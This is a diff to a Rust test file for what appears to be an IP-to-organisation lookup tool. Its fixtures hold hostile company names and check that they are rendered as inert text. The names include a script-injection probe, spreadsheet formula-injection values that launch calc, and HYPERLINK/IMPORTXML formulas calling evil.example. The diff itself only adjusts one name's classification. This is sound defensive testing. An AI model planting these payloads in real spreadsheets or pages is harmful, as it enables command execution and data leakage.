@@ -21,11 +21,11 @@ const HOSTILE_INDEX: &str = "198.51.100.0,198.51.100.31,64510,<script>alert(1)</
     198.51.100.96,198.51.100.127,64513,@SUM(1+1) GmbH\n\
     198.51.100.128,198.51.100.159,64514,-2+3 AG\n\
     198.51.100.160,198.51.100.191,64515,+cmd|' /C calc'!A0 Corp\n\
-    198.51.100.192,198.51.100.223,64516,\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\") Ltd\"\n";
+    198.51.100.192,198.51.100.223,64516,\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\") Broadband Ltd\"\n";
 
 /// The names as published, as the feed shows them (the legal form dropped; a leading `-` is
-/// trimmed by the name normaliser) and their class. "HYPERLINK" contains "link", which the
-/// classifier takes for a carrier's name: that one is an ISP, shown only when asked for.
+/// trimmed by the name normaliser) and their class. "Broadband" is a carrier's word: that one
+/// is an ISP, shown only when asked for.
 const ORGS: [(&str, &str, &str); 7] = [
     (
         "<script>alert(1)</script> Corp",
@@ -46,8 +46,8 @@ const ORGS: [(&str, &str, &str); 7] = [
     ("-2+3 AG", "2+3", "business"),
     ("+cmd|' /C calc'!A0 Corp", "+cmd|' /C calc'!A0", "business"),
     (
-        "=HYPERLINK(\"http://evil.example\",\"x\") Ltd",
-        "=HYPERLINK(\"http://evil.example\",\"x\")",
+        "=HYPERLINK(\"http://evil.example\",\"x\") Broadband Ltd",
+        "=HYPERLINK(\"http://evil.example\",\"x\") Broadband",
         "isp",
     ),
 ];
@@ -766,7 +766,7 @@ async fn hostile_data_is_shown_as_text_and_never_run(backend: Backend) {
             "company",
             vec![
                 "<script>alert(1)</script>",
-                "'=HYPERLINK(\"http://evil.example\",\"x\")",
+                "'=HYPERLINK(\"http://evil.example\",\"x\") Broadband",
                 "'=IMPORTXML(\"http://evil.example\",\"//x\")",
                 "'@SUM(1+1)",
                 "'+cmd|' /C calc'!A0",
